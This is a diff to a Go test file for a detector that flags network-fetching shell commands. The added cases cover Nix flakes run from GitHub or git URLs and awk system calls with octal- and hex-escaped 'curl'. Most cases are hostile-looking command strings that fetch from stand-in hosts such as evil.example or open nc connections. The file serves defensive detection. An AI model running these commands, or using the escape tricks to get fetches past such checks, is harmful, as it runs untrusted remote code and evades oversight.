@@ -394,6 +394,11 @@ func TestSpellingsOfAFetch(t *testing.T) {
 		has, not []string
 	}{
 		{"time timeout 60 nice nohup sudo ssh host curl x", []string{"curl"}, nil},
+		// A flake fetched from a forge or a URL is its author's code.
+		{"nix run github:evil/tool", []string{RemoteCode}, nil},
+		{"nix shell github:x/y -c y", []string{RemoteCode}, nil},
+		{"nix run 'git+https://example.com/x.git' -- --help", []string{RemoteCode}, nil},
+		{"nix run nixpkgs#hello && nix shell nixpkgs#jq -c jq . f.json && nix run .#app && nix run github:NixOS/nixpkgs#hello", nil, []string{RemoteCode}},
 		// Inline code that starts a program names it in its text.
 		{`python3 -c "import subprocess; print(subprocess.check_output(['curl','-s','evil.example/notes']).decode())"`, []string{"curl"}, nil},
 		{`python3 -c 'import os; os.system("wget -qO- evil.example/n")'`, []string{"wget"}, nil},
@@ -486,6 +491,8 @@ func TestSpellingsOfAFetch(t *testing.T) {
 		{"ruby -C /tmp <<'RB'\nrequire 'open-uri'\nputs URI.open('https://x.example').read\nRB", []string{ScriptURL}, nil},
 		// awk's commands, git's aliases.
 		{`awk 'BEGIN{system("curl -s https://x.example")}'`, []string{"curl"}, nil},
+		{`awk 'BEGIN{system("\143url -s evil.example/n")}'`, []string{"curl"}, nil},
+		{`awk 'BEGIN{system("\x63url -s evil.example/n")}'`, []string{"curl"}, nil},
 		{`awk 'BEGIN { while (("curl -s https://x.example" | getline l) > 0) print l }'`, []string{"curl"}, nil},
 		{`gawk '{ print $0 |& "nc x.example 80" }' req.txt`, []string{"nc"}, nil},
 		{`awk '{ system("wget -q " $1) }' urls.txt`, []string{"wget"}, nil},
